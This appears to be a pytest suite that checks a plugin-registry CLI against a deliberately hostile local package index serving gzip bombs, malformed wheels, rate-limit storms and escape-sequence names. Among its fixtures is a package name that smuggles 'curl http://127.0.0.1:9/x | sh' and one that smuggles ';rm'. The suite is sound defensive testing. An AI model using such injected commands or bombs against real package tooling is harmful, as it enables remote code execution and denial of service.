"""A hostile index: every defect spoils one row, every body is capped, every wait has an end.

Each test runs the real CLI in a subprocess against :class:`HostileIndex` on
127.0.0.1, and checks the answer is clean: the good project intact, one line
per problem, no traceback, memory under the cap, and a cache that works on
the next (offline) run.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from _hostile_index import HostileIndex, Project, gzip_bomb, hostile_wheel, lie_about_member_size

pytestmark = pytest.mark.slow

RSS_CAP_MB = 200
GOOD_EPS = b"[fastrtc.vad]\ngood = fastrtc_good_vad:Model\n"
# Peak RSS from VmHWM: getrusage's ru_maxrss survives execve on Linux, so a child of a
# large test process would report its parent's peak.
_WRAPPER = (
    "import atexit, os, sys\n"
    "atexit.register(lambda: open(os.environ['RSS_FILE'], 'w').write(next("
    "l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM:'))))\n"
    "from fastrtc_registry.cli import main\n"
    "sys.exit(main(sys.argv[1:]))\n"
)


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    rss_mb: float

    def rows(self) -> dict[str, dict]:
        assert self.returncode == 0, self.stderr
        return {r["package"]: r for r in json.loads(self.stdout)}


def cli(*args: str, tmp: Path, env: dict[str, str] | None = None, timeout: float = 120) -> Run:
    rss_file = tmp / "rss.txt"
    cwd = tmp / "cwd"
    cwd.mkdir(exist_ok=True)
    proc = subprocess.run(
        [sys.executable, "-c", _WRAPPER, *args],
        capture_output=True,
        text=True,
        timeout=timeout,
        env={**os.environ, "RSS_FILE": str(rss_file), **(env or {})},
        check=False,
        cwd=cwd,
    )
    assert not list(cwd.iterdir()), "wrote outside the cache"
    rss = float(rss_file.read_text()) / 1024 if rss_file.exists() else 0.0
    assert "Traceback" not in proc.stderr and "internal error" not in proc.stderr, proc.stderr
    return Run(proc.returncode, proc.stdout, proc.stderr, rss)


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile-wheels")


@pytest.fixture
def online(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    monkeypatch.delenv("FASTRTC_PLUGINS_OFFLINE", raising=False)
    monkeypatch.setenv("FASTRTC_PLUGINS_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("FASTRTC_PLUGINS_RETRIES", "3")
    return tmp_path


@pytest.fixture
def serve(online: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator:
    servers: list[HostileIndex] = []

    def start(*projects: Project, **options: object) -> HostileIndex:
        server = HostileIndex(list(projects), **options)  # type: ignore[arg-type]
        servers.append(server)
        monkeypatch.setenv("FASTRTC_PLUGINS_INDEX_URL", server.url)
        return server

    yield start
    for server in servers:
        server.close()


def good(wheels: Path, name: str = "fastrtc-good-vad") -> Project:
    path = wheels / f"{name.replace('-', '_')}-1.0-py3-none-any.whl"
    if not path.exists():
        eps = GOOD_EPS.replace(b"good", name.split("-")[1].encode())
        hostile_wheel(wheels, name, "1.0", entry_points=eps)
    return Project(name, wheel=path)


def metadata(name: str, *lines: str) -> bytes:
    return "\n".join(
        ["Metadata-Version: 2.1", f"Name: {name}", "Version: 1.0", *lines, ""]
    ).encode()


def assert_good_intact(run: Run) -> None:
    row = run.rows()["fastrtc-good-vad"]
    assert row["declared"] is True and row["kind"] == "vad"


def assert_spoiled(run: Run, package: str, fragment: str = "") -> dict:
    row = run.rows()[package]
    assert row["declared"] is None and row["kind"] is None, row
    assert row["error"] and "\n" not in row["error"] and fragment in row["error"], row
    return row


def assert_info_and_install_are_clean(tmp: Path, package: str) -> None:
    info = cli("info", package, "--json", tmp=tmp)
    assert info.returncode == 0, info.stderr
    assert json.loads(info.stdout)["error"]
    plan = cli("install", package, "--dry-run", tmp=tmp)
    assert plan.returncode == 1 and len(plan.stderr.strip().splitlines()) == 1, plan.stderr
    assert "could not be checked" in plan.stderr and "pip install" not in plan.stdout


def assert_cache_works(tmp: Path, package: str) -> None:
    again = cli("search", "--offline", "--json", "--all", tmp=tmp)
    assert "fastrtc-good-vad" in again.rows()
    for path in (tmp / "cache").rglob("*.json"):
        json.loads(path.read_bytes())


def _bad_marker(wheels: Path) -> Project:
    meta = metadata("fastrtc-bad", 'Requires-Dist: fastrtc ; python_version ~= "abc"')
    return Project("fastrtc-bad", wheel=hostile_wheel(wheels, "fastrtc-bad", "1.0", metadata=meta))


def _huge_requires_python(wheels: Path) -> Project:
    meta = metadata("fastrtc-bad", "Requires-Python: >=1" + "0" * 5000)
    return Project("fastrtc-bad", wheel=hostile_wheel(wheels, "fastrtc-bad", "2.0", metadata=meta))


def _huge_version_filename(wheels: Path) -> Project:
    wheel = hostile_wheel(wheels, "fastrtc-bad", "3.0")
    return Project(
        "fastrtc-bad",
        wheel=wheel,
        listed_filename="fastrtc_bad-1" + "0" * 5000 + "-py3-none-any.whl",
    )


def _name_mismatch(wheels: Path) -> Project:
    meta = metadata("fastrtc-bad; curl http://127.0.0.1:9/x | sh")
    return Project("fastrtc-bad", wheel=hostile_wheel(wheels, "fastrtc-bad", "4.0", metadata=meta))


def _other_valid_name(wheels: Path) -> Project:
    # A name that is valid on its own but is another project's: still a lie.
    meta = metadata("fastrtc-other", "Requires-Dist: fastrtc")
    wheel = hostile_wheel(wheels, "fastrtc-bad", "5.0", metadata=meta, entry_points=GOOD_EPS)
    return Project("fastrtc-bad", wheel=wheel)


@pytest.mark.parametrize(
    ("make", "fragment"),
    [
        (_bad_marker, "cannot be evaluated"),
        (_huge_requires_python, "unreadable Requires-Python"),
        (_huge_version_filename, "no installable release"),
        (_name_mismatch, "invalid project name"),
        (_other_valid_name, "names 'fastrtc-other', not the listed 'fastrtc-bad'"),
    ],
    ids=[
        "marker",
        "requires-python-5000-digits",
        "filename-5000-digits",
        "name-mismatch",
        "another-valid-name",
    ],
)
def test_one_bad_project_spoils_only_its_own_row(serve, wheels: Path, online: Path, make, fragment):
    serve(good(wheels), make(wheels))
    run = cli("search", "--json", tmp=online)
    assert_good_intact(run)
    assert_spoiled(run, "fastrtc-bad", fragment)
    human = cli("search", "--refresh", tmp=online)
    assert human.returncode == 0
    assert (
        human.stderr.strip().splitlines()[-1].startswith("warning: 1 project could not be checked")
    )
    assert "curl" not in human.stdout + human.stderr + run.stdout
    assert_info_and_install_are_clean(online, "fastrtc-bad")
    assert_cache_works(online, "fastrtc-bad")


def test_a_zip_name_flagged_utf8_with_invalid_bytes(serve, wheels: Path, online: Path):
    wheel = hostile_wheel(
        wheels, "fastrtc-zipname", "1.0", entry_points=GOOD_EPS, bad_utf8_member=True
    )
    serve(good(wheels), Project("fastrtc-zipname", wheel=wheel))
    run = cli("search", "--json", "--all", tmp=online)
    assert_good_intact(run)
    row = run.rows()["fastrtc-zipname"]
    assert row["declared"] is True or (row["declared"] is None and row["error"])
    assert_cache_works(online, "fastrtc-zipname")


def test_a_control_character_in_a_listed_name_never_makes_a_row(serve, wheels: Path, online: Path):
    serve(good(wheels), extra_names=["fastrtc-\x1b[2J", "fastrtc-evil;rm"])
    run = cli("search", "--json", "--all", tmp=online)
    assert_good_intact(run)
    assert set(run.rows()) >= {"fastrtc-good-vad"} and not any("\x1b" in p for p in run.rows())
    assert "\x1b" not in run.stdout + run.stderr
    assert (
        "2 projects could not be checked" in run.stderr and "not a valid project name" in run.stderr
    )


def test_a_429_storm_loses_no_project(serve, wheels: Path, online: Path):
    names = [f"fastrtc-storm{i}-vad" for i in range(4)]
    serve(good(wheels), *(good(wheels, n) for n in names), storm=True)
    rows = cli("search", "--json", tmp=online).rows()
    for name in ["fastrtc-good-vad", *names]:
        assert rows[name]["declared"] is True, rows.get(name)


def test_under_a_global_429_storm_no_project_is_silently_missing(
    serve, wheels: Path, online: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("FASTRTC_PLUGINS_RETRIES", "1")  # few tries: some projects lose
    names = [f"fastrtc-storm{i}-vad" for i in range(6)]
    serve(good(wheels), *(good(wheels, n) for n in names), storm_global=True)
    run = cli("search", "--json", tmp=online)
    rows = run.rows()
    unchecked = 0
    for name in ["fastrtc-good-vad", *names]:
        row = rows[name]  # never dropped
        if row["declared"] is None:
            unchecked += 1
            assert "429" in row["error"] and row["kind"] is None
        else:
            assert row["declared"] is True
    if unchecked:
        what = "project" if unchecked == 1 else "projects"
        assert f"{unchecked} {what} could not be checked" in run.stderr


def test_a_page_that_times_out_is_unchecked_not_a_non_plugin(
    serve, wheels: Path, online: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("FASTRTC_PLUGINS_REQUEST_DEADLINE", "1")
    slow = good(wheels, "fastrtc-slow-vad")
    slow.hang = 4
    serve(good(wheels), slow)
    run = cli("search", "--json", tmp=online)
    assert_good_intact(run)
    assert_spoiled(run, "fastrtc-slow-vad", "longer than 1 s")
    human = cli("search", tmp=online)
    last = human.stderr.strip().splitlines()[-1]
    assert last.startswith("warning: 1 project could not be checked: fastrtc-slow-vad")
    assert "not a plugin" not in human.stdout


def _page_bomb(wheels: Path) -> Project:
    return Project("fastrtc-bad", page_bomb=gzip_bomb(512 << 20, prefix=b'{"files": ['))


def _metadata_bomb(wheels: Path) -> Project:
    wheel = hostile_wheel(wheels, "fastrtc-bad", "5.0", entry_points=GOOD_EPS)
    bomb = gzip_bomb(512 << 20, b"A", prefix=metadata("fastrtc-bad", "Summary: x"))
    return Project("fastrtc-bad", wheel=wheel, metadata=bomb, metadata_gzip=True)


def _entry_points_bomb(wheels: Path) -> Project:
    # Small compressed, 200 MB inflated, declaring 100 bytes: caught while inflating.
    wheel = hostile_wheel(
        wheels, "fastrtc-bad", "6.0", entry_points_size=200 << 20, padding=200_000
    )
    lie_about_member_size(wheel, "fastrtc_bad-6.0.dist-info/entry_points.txt", 100)
    return Project("fastrtc-bad", wheel=wheel)


def _stored_entry_points(wheels: Path) -> Project:
    wheel = hostile_wheel(
        wheels,
        "fastrtc-bad",
        "7.0",
        entry_points_size=100 << 20,
        entry_points_method=zipfile.ZIP_STORED,
    )
    return Project("fastrtc-bad", wheel=wheel)


@pytest.mark.parametrize(
    "make",
    [_page_bomb, _metadata_bomb, _entry_points_bomb, _stored_entry_points],
    ids=[
        "gzip-project-page",
        "pep658-metadata",
        "entry-points-deflate",
        "entry-points-100mb-stored",
    ],
)
def test_bombs_are_capped(serve, wheels: Path, online: Path, make):
    serve(good(wheels), make(wheels))
    run = cli("search", "--json", tmp=online)
    assert_good_intact(run)
    assert_spoiled(run, "fastrtc-bad", "limit")
    print(f"peak RSS {run.rss_mb:.0f} MB")
    assert run.rss_mb < RSS_CAP_MB
    assert_info_and_install_are_clean(online, "fastrtc-bad")
    assert_cache_works(online, "fastrtc-bad")


def test_a_trickling_root_page_ends_at_the_deadline(serve, wheels: Path, online: Path):
    serve(good(wheels), trickle_root=True)
    run = cli("search", "good", "--deadline", "3", tmp=online, timeout=60)
    assert run.returncode == 3
    assert "deadline (3 s)" in run.stderr and len(run.stderr.strip().splitlines()) == 1


def test_a_trickling_root_page_is_abandoned_by_the_low_speed_rule(
    serve, wheels: Path, online: Path
):
    # No --deadline: without the rule the trickle runs to the 120 s command deadline.
    server = serve(good(wheels), trickle_root=True)
    floor = {"FASTRTC_PLUGINS_LOW_SPEED_LIMIT": "100", "FASTRTC_PLUGINS_LOW_SPEED_TIME": "3"}
    run = cli("search", "good", tmp=online, env=floor, timeout=45)
    assert run.returncode == 3, run.stderr
    assert "under 100 bytes/s for 3 s" in run.stderr
    assert len(run.stderr.strip().splitlines()) == 1
    assert run.stderr.count(server.url) == 1, run.stderr  # the URL is said once


def test_a_steady_slow_root_page_still_finishes(serve, wheels: Path, online: Path):
    # 6 KB at 1 KB/s: twice the low-speed window, always above its floor.
    filler = [f"unrelated-filler-{i:04d}-{'x' * 40}" for i in range(100)]
    server = serve(good(wheels), slow_root=1000.0)
    server.extra_names.extend(filler)
    assert len(server.root()) > 6000
    floor = {"FASTRTC_PLUGINS_LOW_SPEED_LIMIT": "500", "FASTRTC_PLUGINS_LOW_SPEED_TIME": "3"}
    run = cli("search", "good", "--json", tmp=online, env=floor, timeout=60)
    assert run.returncode == 0, run.stderr
    assert run.rows()["fastrtc-good-vad"]["declared"] is True


def test_names_from_the_listing_and_pip_gets_exactly_name_and_version(
    serve, wheels: Path, online: Path
):
    server = serve(good(wheels), _name_mismatch(wheels))
    plan = cli("install", "good", "--dry-run", tmp=online)
    assert plan.returncode == 0, plan.stderr
    shown = " ".join(plan.stdout.split())
    assert "pip install fastrtc-good-vad==1.0 fastrtc==" in shown
    assert shown.endswith(f"--index-url {server.url}")
    evil = cli("install", "fastrtc-bad", "--dry-run", tmp=online)
    assert evil.returncode == 1 and len(evil.stderr.strip().splitlines()) == 1
    assert "curl" not in evil.stdout + evil.stderr


def test_control_characters_and_utf8_in_summaries(serve, wheels: Path, online: Path):
    summary = "Sprachaktivitätserkennung 音声区間検出 \x1b[2J\x1b]0;owned\x07"
    meta = metadata("fastrtc-text-vad", f"Summary: {summary}", "Requires-Dist: fastrtc")
    wheel = hostile_wheel(
        wheels,
        "fastrtc-text-vad",
        "1.0",
        metadata=meta,
        entry_points=GOOD_EPS.replace(b"good", b"text"),
    )
    serve(good(wheels), Project("fastrtc-text-vad", wheel=wheel))
    run = cli("search", "--json", tmp=online)
    row = run.rows()["fastrtc-text-vad"]
    assert row["summary"].startswith("Sprachaktivitätserkennung 音声区間検出")
    assert "\x1b" not in row["summary"] and "\x07" not in row["summary"]
    human = cli("search", "text", tmp=online, env={"COLUMNS": "200"})
    assert "\x1b" not in human.stdout and "Sprachaktivitätserkennung" in human.stdout
    cached = [json.loads(p.read_bytes()) for p in (online / "cache").rglob("fastrtc-text-vad.json")]
    assert cached and cached[0]["data"]["facts"]["summary"].startswith("Sprachaktivitätserkennung")


def test_credentials_are_masked_everywhere(
    serve, wheels: Path, online: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("FASTRTC_PLUGINS_REQUEST_DEADLINE", "1")
    slow = good(wheels, "fastrtc-slow-vad")
    slow.hang = 3
    serve(good(wheels), slow, userinfo="alice:s3cret")
    search = cli("search", "--json", tmp=online)
    info = cli("info", "good", "--json", tmp=online)
    assert info.returncode == 0, info.stderr
    assert json.loads(info.stdout)["index_url"].startswith("http://alice:****@127.0.0.1:")
    plan = cli("install", "good", "--dry-run", tmp=online)
    shown = search.stdout + search.stderr + info.stdout + info.stderr + plan.stdout + plan.stderr
    assert "s3cret" not in shown and "alice:****@" in shown
    for path in (online / "cache").rglob("*"):
        if path.is_file():
            assert b"s3cret" not in path.read_bytes(), path


@pytest.mark.parametrize(
    "environ",
    [{"PIP_NO_INDEX": "1"}, {"PIP_INDEX_URL": "file:///srv/wheels"}],
    ids=["pip-no-index", "file-index"],
)
def test_where_pip_uses_no_index_search_answers_from_the_catalog(online: Path, environ):
    run = cli("search", "--json", tmp=online, env={**environ, "HTTPS_PROXY": "http://127.0.0.1:9"})
    rows = run.rows()
    assert {"humaware-vad", "fastrtc-walkie-talkie"} <= set(rows)
    assert "results come from the catalog only" in run.stderr
    assert "cannot reach" not in run.stderr


def test_bad_index_options(online: Path):
    usage = cli("search", "--index-url", "notaurl", tmp=online)
    assert usage.returncode == 2
    offline = cli(
        "search", "--offline", "--json", tmp=online, env={"FASTRTC_PLUGINS_INDEX_URL": "ftp://x"}
    )
    assert offline.returncode == 0 and offline.rows()


def test_fetch_url_applies_the_size_cap_and_the_deadline(serve, wheels: Path):
    from fastrtc_registry.errors import IndexBodyTooLargeError, IndexDeadlineError
    from fastrtc_registry.index import fetch_url

    server = serve(_page_bomb(wheels), trickle_root=True)
    page = server.url + "fastrtc-bad/"
    with pytest.raises(IndexBodyTooLargeError, match="limit"):
        fetch_url(page, limit=1 << 20, deadline=30)
    with pytest.raises(IndexDeadlineError, match="longer than 2 s"):
        fetch_url(server.url, limit=1 << 20, deadline=2)
    wheel = good(wheels)
    server.projects.append(wheel)
    got = fetch_url(server.url + "fastrtc-good-vad/", limit=1 << 20, deadline=30)
    assert got.status == 200 and b"fastrtc_good_vad" in got.body
